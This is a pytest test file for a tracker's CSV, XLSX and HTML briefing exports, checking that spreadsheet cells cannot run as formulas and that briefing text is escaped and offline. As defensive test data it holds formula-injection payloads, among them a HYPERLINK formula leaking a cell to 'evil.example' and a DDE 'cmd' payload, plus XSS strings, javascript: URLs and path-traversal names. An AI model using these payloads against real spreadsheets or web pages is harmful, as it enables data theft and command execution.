"""Downloads of the current view: spreadsheet cells can never run as formulas,
the CSV opens with its accents in Excel and loads back unchanged, the XLSX has
the same cells, and the HTML briefing is self-contained, escaped and offline."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import date, datetime
from html.parser import HTMLParser
from xml.etree import ElementTree as ET

import numpy as np
import pandas as pd
import pytest

from cmap_tracker import briefing, charts, contract, dataset, figures, i18n, loader, spreadsheet
from cmap_tracker.filters import Filters
from conftest import DATA, csv_bytes

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-5 things",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u00a0@cmd",
    "\n+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "-2+3+cmd|' /C calc'!A0",
]
SAFE_TEXT = ["Agriculture", "", "a=b", "x-1", "2025 plan", "Énergie — café, ñandú", "'quoted", "(=)"]


@pytest.fixture(scope="module")
def ds() -> dataset.Dataset:
    result = loader.load(DATA, limit=None)
    assert result.ok
    return dataset.build(result)


@pytest.fixture
def hostile(ds) -> pd.DataFrame:
    """The shipped frame with one payload in each of the first titles and sectors."""
    df = ds.frame.copy()
    for i, p in enumerate(PAYLOADS):
        df.loc[i, "title"] = p
        df.loc[i, "sector"] = p
    return df


def read_csv(data: bytes) -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", dtype=str, keep_default_na=False)


def read_xlsx(data: bytes) -> list[list[str]]:
    """The first sheet's cells as text, read with zipfile + XML (no extra dependency)."""
    ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    unescape = lambda s: re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), s)  # noqa: E731
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        shared = []
        if "xl/sharedStrings.xml" in z.namelist():
            for si in ET.fromstring(z.read("xl/sharedStrings.xml")).findall("m:si", ns):
                shared.append(unescape("".join(t.text or "" for t in si.iter(f"{{{ns['m']}}}t"))))
        sheet = ET.fromstring(z.read("xl/worksheets/sheet1.xml"))
    rows = []
    for row in sheet.find("m:sheetData", ns).findall("m:row", ns):
        cells: dict[int, str] = {}
        for c in row.findall("m:c", ns):
            letters = re.match(r"[A-Z]+", c.get("r")).group(0)
            col = 0
            for ch in letters:
                col = col * 26 + ord(ch) - 64
            v = c.find("m:v", ns)
            if c.get("t") == "s":
                cells[col - 1] = shared[int(v.text)]
            elif c.get("t") == "inlineStr":
                cells[col - 1] = unescape("".join(t.text or "" for t in c.iter(f"{{{ns['m']}}}t")))
            else:
                cells[col - 1] = v.text if v is not None else ""
        width = max(cells) + 1 if cells else 0
        rows.append([cells.get(i, "") for i in range(width)])
    return rows


def xlsx_frame(data: bytes) -> pd.DataFrame:
    rows = read_xlsx(data)
    width = len(rows[0])
    return pd.DataFrame([r + [""] * (width - len(r)) for r in rows[1:]], columns=rows[0])


# ------------------------------------------------------------------ safe_cell


@pytest.mark.parametrize("payload", PAYLOADS)
def test_safe_cell_quotes_every_formula_prefix(payload):
    assert spreadsheet.safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("prefix", spreadsheet.DANGEROUS_PREFIXES)
def test_each_owasp_prefix_is_neutralised(prefix):
    assert spreadsheet.safe_cell(prefix + "x") == "'" + prefix + "x"


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@"])
@pytest.mark.parametrize("space", [" ", "  ", "\n", "\u00a0", " \t"])
def test_a_prefix_after_leading_whitespace_is_neutralised(prefix, space):
    assert spreadsheet.safe_cell(space + prefix + "x") == "'" + space + prefix + "x"


@pytest.mark.parametrize("text", SAFE_TEXT)
def test_ordinary_text_is_untouched(text):
    assert spreadsheet.safe_cell(text) == text


@pytest.mark.parametrize(
    "value, expected",
    [
        (None, ""),
        (float("nan"), ""),
        (pd.NaT, ""),
        (pd.NA, ""),
        (np.datetime64("NaT"), ""),
        (True, "true"),
        (np.bool_(False), "false"),
        (-5, "-5"),
        (np.int64(-3), "-3"),
        (-1.5, "-1.5"),
        (2.0, "2.0"),
        (date(2026, 1, 2), "2026-01-02"),
        (pd.Timestamp("2026-01-02"), "2026-01-02"),
        (np.datetime64("2026-01-02"), "2026-01-02"),
        (datetime(2026, 1, 2, 13, 5), "2026-01-02T13:05:00"),
    ],
)
def test_non_text_values_are_formatted_not_quoted(value, expected):
    assert spreadsheet.safe_cell(value) == expected


def test_negative_number_as_text_is_quoted_but_as_number_is_not():
    assert spreadsheet.safe_cell("-5") == "'-5"
    assert spreadsheet.safe_cell(-5) == "-5"


# ---------------------------------------------------------------- export_frame


def test_export_frame_has_the_contract_columns_in_order_and_no_internal_ones(ds):
    ef = spreadsheet.export_frame(ds.frame)
    assert list(ef.columns) == list(contract.COLUMN_NAMES)
    assert "line" not in ef.columns
    assert len(ef) == len(ds.frame)
    assert all(isinstance(v, str) for v in ef.to_numpy().ravel())


def test_export_frame_formats_dates_and_milestones(ds):
    ef = spreadsheet.export_frame(ds.frame)
    for col in ("start_date", "end_date", "last_updated"):
        values = ef[col]
        assert values.str.fullmatch(r"\d{4}-\d{2}-\d{2}|").all(), col
        assert ((values == "") == ds.frame[col].isna().to_numpy()).all(), col
    assert set(ef["milestone"]) <= {"true", "false"}
    assert (ef["milestone"] == "true").sum() == int(ds.frame["milestone"].sum())


def test_extra_columns_follow_the_contract_and_their_names_are_neutralised():
    data = csv_bytes(
        "A-1,=cmd,security,Policing,planned,2026-01-15,https://example.org/x,@evil,keep",
        header="id,title,pillar,sector,status,start_date,source_url,=evil,budget_note",
    )
    frame = loader.load(data).frame
    ef = spreadsheet.export_frame(frame)
    assert list(ef.columns) == [*contract.COLUMN_NAMES, "'=evil", "budget_note"]
    assert ef.loc[0, "'=evil"] == "'@evil"
    assert ef.loc[0, "budget_note"] == "keep"
    assert ef.loc[0, "title"] == "'=cmd"


def test_nullable_booleans_are_written_as_words(ds):
    df = ds.frame.iloc[:3].copy()
    df["milestone"] = pd.array([True, None, False], dtype="boolean")
    df["flag"] = pd.array([True, None, False], dtype="boolean")
    ef = spreadsheet.export_frame(df)
    assert ef["milestone"].tolist() == ["true", "false", "false"]
    assert ef["flag"].tolist() == ["true", "", "false"]


def test_a_column_missing_from_the_frame_is_exported_empty(ds):
    ef = spreadsheet.export_frame(ds.frame.drop(columns=["description_es", "milestone"]))
    assert list(ef.columns) == list(contract.COLUMN_NAMES)
    assert (ef["description_es"] == "").all() and (ef["milestone"] == "false").all()


# ------------------------------------------------------------------------- CSV


def test_csv_has_a_bom_crlf_and_quotes_every_field(ds):
    b = spreadsheet.to_csv_bytes(ds.frame)
    assert b.startswith(spreadsheet.BOM) and not b[3:].startswith(spreadsheet.BOM)
    header = b[3:].split(b"\r\n", 1)[0].decode()
    assert header == ",".join(f'"{c}"' for c in contract.COLUMN_NAMES)
    assert b.endswith(b"\r\n")


def test_csv_neutralises_every_payload(hostile):
    back = read_csv(spreadsheet.to_csv_bytes(hostile))
    for i, p in enumerate(PAYLOADS):
        assert back.loc[i, "title"] == "'" + p
        assert back.loc[i, "sector"] == "'" + p
    # the other rows' text is exactly what was loaded
    rest = hostile.iloc[len(PAYLOADS) :]
    assert back["title"].iloc[len(PAYLOADS) :].tolist() == rest["title"].tolist()


def test_csv_accents_round_trip_through_excel_encoding(ds):
    df = ds.frame.copy()
    df.loc[0, "title"] = "Énergie — café, ñandú, « Mexique », Québec"
    back = read_csv(spreadsheet.to_csv_bytes(df))
    assert back.loc[0, "title"] == "Énergie — café, ñandú, « Mexique », Québec"
    assert back["title_fr"].tolist() == df["title_fr"].tolist()
    assert back["description_es"].tolist() == df["description_es"].tolist()


def test_csv_columns_and_rows_match_the_filtered_frame(ds):
    shown = Filters(pillar=("security",), status=("planned", "ongoing")).apply(ds, whole=True)  # as the downloads do
    assert 0 < len(shown) < len(ds.frame)
    back = read_csv(spreadsheet.to_csv_bytes(shown))
    assert list(back.columns) == list(contract.COLUMN_NAMES)
    assert len(back) == len(shown)
    assert back["id"].tolist() == shown["id"].tolist()
    assert back["description"].tolist() == shown["description"].fillna("").tolist()


def test_csv_loads_back_into_the_same_frame(ds):
    again = loader.load(spreadsheet.to_csv_bytes(ds.frame))
    assert again.ok and not again.issues and not again.notes
    cols = [c for c in ds.frame.columns if c != "line"]
    pd.testing.assert_frame_equal(again.frame[cols], ds.frame[cols])


def test_csv_of_an_empty_view_is_just_the_header(ds):
    back = read_csv(spreadsheet.to_csv_bytes(ds.frame.iloc[0:0]))
    assert list(back.columns) == list(contract.COLUMN_NAMES) and back.empty


def test_any_table_exports_safely_with_its_own_columns():
    table = pd.DataFrame(
        {
            "id": ["A-1", "B-2"],
            "field": ["title", "end_date"],
            "before": ["=old", pd.Timestamp("2026-01-31")],
            "after": ["Café", pd.NaT],
            "=days": [-5, 3],
        }
    )
    b = spreadsheet.table_csv_bytes(table)
    assert b.startswith(spreadsheet.BOM)
    back = read_csv(b)
    assert list(back.columns) == ["id", "field", "before", "after", "'=days"]
    assert back["before"].tolist() == ["'=old", "2026-01-31"]
    assert back["after"].tolist() == ["Café", ""]
    assert back["'=days"].tolist() == ["-5", "3"]  # numbers are not text: never quoted


# ------------------------------------------------------------------------ XLSX


def test_xlsx_neutralises_every_payload_and_has_no_formulas_or_links(hostile):
    data = spreadsheet.to_xlsx_bytes(hostile)
    back = xlsx_frame(data)
    for i, p in enumerate(PAYLOADS):
        assert back.loc[i, "title"] == "'" + p
        assert back.loc[i, "sector"] == "'" + p
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
        names = z.namelist()
    assert "<f>" not in sheet and "<f " not in sheet
    assert "<hyperlink" not in sheet
    assert not any("worksheets/_rels" in n for n in names)  # no hyperlink relationships
    assert 't="n"' not in sheet and re.search(r'<c r="[A-Z]+\d+"(?: s="\d+")?><v>', sheet) is None  # no numbers


def test_xlsx_has_the_same_cells_as_the_csv(ds):
    shown = Filters(pillar=("prosperity",)).apply(ds, whole=True)  # as the downloads do
    from_xlsx = xlsx_frame(spreadsheet.to_xlsx_bytes(shown))
    from_csv = read_csv(spreadsheet.to_csv_bytes(shown))
    assert list(from_xlsx.columns) == list(contract.COLUMN_NAMES)
    assert len(from_xlsx) == len(shown)
    pd.testing.assert_frame_equal(from_xlsx, from_csv, check_dtype=False)


def test_xlsx_header_is_bold_and_frozen_with_widths(ds):
    data = spreadsheet.to_xlsx_bytes(ds.frame)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
        styles = z.read("xl/styles.xml").decode()
    assert re.search(r'<pane ySplit="1" topLeftCell="A2"[^>]*state="frozen"', sheet)
    assert "<b/>" in styles
    first_row = re.search(r'<row r="1".*?</row>', sheet).group(0)
    assert all(' s="1"' in c for c in re.findall(r"<c [^>]*>", first_row))  # the bold format
    cols = re.findall(r'<col min="(\d+)" max="(\d+)" width="([\d.]+)"', sheet)
    assert sum(int(b) - int(a) + 1 for a, b, _w in cols) == len(contract.COLUMN_NAMES)  # equal neighbours merge
    assert all(6 <= float(w) <= spreadsheet.XLSX_MAX_WIDTH + 1 for _a, _b, w in cols)
    assert "<autoFilter" in sheet


# -------------------------------------------------------------------- filename


def test_filename():
    assert spreadsheet.filename("cmap-initiatives", "csv", date(2026, 11, 25)) == "cmap-initiatives-2026-11-25.csv"
    assert spreadsheet.filename("cmap briefing", ".html", date(2026, 1, 2)) == "cmap-briefing-2026-01-02.html"
    assert spreadsheet.filename("../../etc/passwd", "x/y", date(2026, 1, 2)) == "etc-passwd-2026-01-02.x-y"


# -------------------------------------------------------------------- briefing

EVIL = "<script>alert(1)</script>"
LINK = "https://cmap.example.org/status?pillar=security&lang=fr"


class Tags(HTMLParser):
    """Every start tag with its attributes (script and style bodies are not parsed as
    tags), and the text shown, entities decoded."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.styles: list[str] = []
        self.scripts: list[str] = []
        self.texts: list[str] = []
        self._in: str | None = None
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self._in = tag if tag in ("style", "script") else None

    def handle_endtag(self, tag):
        self._in = None

    def handle_data(self, data):
        if self._in == "style":
            self.styles.append(data)
        elif self._in == "script":
            self.scripts.append(data)
        else:
            self.texts.append(data)

    def attrs(self, tag: str) -> list[dict]:
        return [a for t, a in self.tags if t == tag]


def brief(df: pd.DataFrame, *, figs=None, **over) -> str:
    kw = dict(
        title="Canada–Mexico Action Plan",
        filters_text="Security · 9 of 51 initiatives",
        kpis=[("Initiatives in view", "9"), ("Completed", "22 %")],
        figures=figs if figs is not None else [],
        table=df,
        as_of="2026-11-25",
        link=LINK,
        lang="fr",
        generated="2026-11-25 10:00",
        source_note="Source: data/initiatives.csv",
    )
    kw.update(over)
    return briefing.briefing_html(**kw)


@pytest.fixture(scope="module")
def full_brief(ds) -> str:
    df = ds.frame
    return brief(df, figs=[charts.status_by_pillar(df), charts.hierarchy(df), charts.completion_by_pillar(df)])


def test_plotly_js_is_inlined_exactly_once(full_brief):
    assert full_brief.count("plotly.js v") == 1  # the bundle's licence header
    assert full_brief.count("Plotly.newPlot(") == 3
    assert len(full_brief) < 6_000_000


def test_briefing_loads_nothing_from_outside(full_brief, ds):
    tags = Tags(full_brief)
    assert not re.search(r"<script[^>]*\bsrc\s*=", full_brief, re.I)
    assert all("src" not in a for t, a in tags.tags)  # no script, img, iframe, source with a src
    assert tags.attrs("link") == []  # no stylesheets, no web fonts
    css = "\n".join(tags.styles)
    assert "@import" not in css and "url(" not in css
    # outside the inlined plotly.js bundle (whose source mentions map-tile servers it
    # never contacts for these charts), the only addresses are the data's own
    outside = "".join(b for b in tags.scripts if "plotly.js v" not in b) + re.sub(
        r"<script\b[^>]*>.*?</script>", "", full_brief, flags=re.S
    )
    allowed = {LINK.replace("&", "&amp;"), *ds.frame["source_url"]}
    assert set(re.findall(r"https?://[^\s\"'<>]+", outside)) <= allowed
    csp = [a["content"] for a in tags.attrs("meta") if a.get("http-equiv") == "Content-Security-Policy"]
    assert csp and "default-src 'none'" in csp[0]
    # every link goes to the live view or a row's http(s) source
    hrefs = {a["href"] for a in tags.attrs("a")}
    assert LINK in hrefs
    assert all(h.startswith(("https://", "http://")) for h in hrefs)


def test_briefing_has_lang_title_filters_kpis_as_of_and_link(full_brief, ds):
    assert full_brief.startswith('<!DOCTYPE html>\n<html lang="fr">')
    assert "<title>Canada–Mexico Action Plan</title>" in full_brief
    assert "Security · 9 of 51 initiatives" in full_brief
    assert "<dt>Initiatives in view</dt><dd>9</dd>" in full_brief
    assert "2026-11-25" in full_brief
    assert f'href="{LINK.replace("&", "&amp;")}"' in full_brief
    tags = Tags(full_brief)
    assert len(tags.attrs("tr")) == len(ds.frame) + 1  # header + one row per initiative


def test_briefing_escapes_all_data_text(ds):
    df = ds.frame.iloc[:3].copy()
    df.loc[0, "title"] = EVIL
    df.loc[1, "id"] = "<b>x</b>"
    df.loc[2, "title"] = '"><img src=x onerror=alert(2)>'
    out = brief(
        df,
        title=EVIL,
        filters_text=EVIL,
        kpis=[(EVIL, "<i>1</i>")],
        as_of=EVIL,
        generated=EVIL,
        source_note=EVIL,
        lang="en",
    )
    assert EVIL not in out and "<img" not in out and "<b>x</b>" not in out and "<i>1</i>" not in out
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in out
    assert "<title>&lt;script&gt;alert(1)&lt;/script&gt;</title>" in out
    assert '"><img src=x onerror=alert(2)>' in Tags(out).texts
    assert not any(t in ("img", "b", "i") for t, _a in Tags(out).tags)
    assert Tags(out).attrs("script") == []  # no figures, so no script at all


def test_a_malicious_figure_title_cannot_close_the_script(ds):
    fig = figures.empty(EVIL + "</script><b>")
    out = brief(ds.frame.iloc[:1], figs=[fig])
    assert "</script><b>" not in out and EVIL not in out


def test_non_http_sources_are_text_not_links(ds):
    df = ds.frame.iloc[:4].copy()
    df["source_url"] = df["source_url"].astype(object)
    df.loc[0, "source_url"] = "javascript:alert(1)"
    df.loc[1, "source_url"] = "ftp://files.example.org/a"
    df.loc[2, "source_url"] = "data:text/html,<script>alert(1)</script>"
    df.loc[3, "source_url"] = "https://www.example.org/ok?a=1&b=2"
    out = brief(df)
    hrefs = [a["href"] for a in Tags(out).attrs("a")]
    assert hrefs == ["https://www.example.org/ok?a=1&b=2", LINK]
    assert "<td>javascript:alert(1)</td>" in out
    assert "<td>ftp://files.example.org/a</td>" in out
    assert "<td>data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;</td>" in out
    assert ">example.org</a>" in out


def without_plotly_js(page: str) -> str:
    """The page with the inlined plotly.js bundle (plotly's own code) cut out."""
    return re.sub(r"<script>/\*\*\n\* plotly\.js v.*?</script>", "", page, flags=re.S)


def test_hostile_title_sector_filters_and_source_are_shown_as_text(ds):
    """Markup in a title, a sector (in the table and in the treemap), the filters line
    or a source is shown as text; a source that is not an http(s) URL is no link."""
    hostile = [EVIL, '"><img src=x>']
    bad_link = 'https://x.example/"><img src=x>'
    df = ds.frame.iloc[:6].copy()
    df["source_url"] = df["source_url"].astype(object)
    for i, p in enumerate(hostile):
        df.loc[i, "title"] = df.loc[i, "sector"] = df.loc[2 + i, "source_url"] = p
    df.loc[4, "source_url"], df.loc[5, "source_url"] = bad_link, "javascript:alert(1)"
    filters = " · ".join(hostile)
    pages = [
        brief(df, figs=[charts.hierarchy(df)], filters_text=filters, lang="en"),  # sectors in the treemap
        brief(df[["id", "sector", "source_url"]], filters_text=filters, lang="en"),
    ]  # as a column
    for out in pages:
        page = without_plotly_js(out)
        assert "plotly.js v" not in page
        assert EVIL not in page and "<img" not in page
        tags = Tags(page)
        assert not any(t in ("img", "b", "i") for t, _a in tags.tags)
        assert filters in tags.texts
        assert {*hostile, bad_link, "javascript:alert(1)"} <= set(tags.texts)  # the sources, as text
        hrefs = [a["href"] for a in tags.attrs("a")]
        assert hrefs and all(h.startswith("https://") and "<" not in h and '"' not in h for h in hrefs)
        assert "javascript:alert(1)" not in hrefs and bad_link not in hrefs
    assert {*hostile} <= set(Tags(pages[0]).texts)  # titles in the table
    assert {*hostile} <= set(Tags(pages[1]).texts)  # sectors in the table


@pytest.mark.parametrize("link", ["javascript:alert(1)", "file:///etc/passwd", "//evil.example"])
def test_a_non_http_live_link_is_not_a_link(ds, link):
    out = brief(ds.frame.iloc[:1], link=link)
    assert all(a["href"] != link for a in Tags(out).attrs("a"))
    assert f'href="{link}' not in out


def test_a_bad_lang_falls_back_and_the_callers_language_is_kept(ds):
    i18n.set_language("es")
    try:
        out = brief(ds.frame.iloc[:1], lang='en" onload="alert(1)')
        assert out.startswith('<!DOCTYPE html>\n<html lang="en">')
        assert i18n.language() == "es"
    finally:
        i18n.set_language("en")


def test_section_labels_are_translated_into_the_briefing_language(ds):
    i18n.set_language("en")
    out = brief(ds.frame.iloc[:2], lang="fr-CA")
    fr = i18n.catalogue("fr")
    for msgid in ("Filters", "Key figures", "Initiatives", "Data as of", "Live view"):
        assert f"<h2>{fr.get(msgid, msgid)}</h2>" in out or f"{fr.get(msgid, msgid)}:" in out, msgid
    assert out.startswith('<!DOCTYPE html>\n<html lang="fr-CA">')
    assert i18n.language() == "en"


def test_labels_can_be_given_and_titles_follow_the_language(ds):
    out = brief(ds.frame.iloc[:2], lang="fr", labels={"Filters": "Filtres", "Initiatives": "Initiatives (FR)"})
    assert "<h2>Filtres</h2>" in out and "<h2>Initiatives (FR)</h2>" in out
    assert ds.frame.loc[0, "title_fr"] in Tags(out).texts


def test_empty_view_and_long_view(ds):
    out = brief(ds.frame.iloc[0:0], lang="en")
    assert "<table" not in out and "No initiatives match these filters." in out
    out = brief(ds.frame, max_rows=5, lang="en")
    assert len(Tags(out).attrs("tr")) == 6
    assert "Showing the first 5 of 51 initiatives" in out


@pytest.mark.browser
def test_briefing_renders_offline_in_a_browser(full_brief, browser, tmp_path):
    path = tmp_path / "briefing.html"
    path.write_text(full_brief, encoding="utf-8")
    ctx = browser.new_context(offline=True)
    page = ctx.new_page()
    problems, requests = [], []
    page.on("console", lambda m: problems.append(m.text) if m.type in ("error", "warning") else None)
    page.on("pageerror", lambda e: problems.append(str(e)))
    page.on("request", lambda r: requests.append(r.url))
    page.goto(path.as_uri())
    page.wait_for_function("() => document.querySelectorAll('.js-plotly-plot .main-svg').length >= 3", timeout=15_000)
    assert problems == []  # a CSP violation or a script error would show here
    assert requests == [path.as_uri()]
    ctx.close()
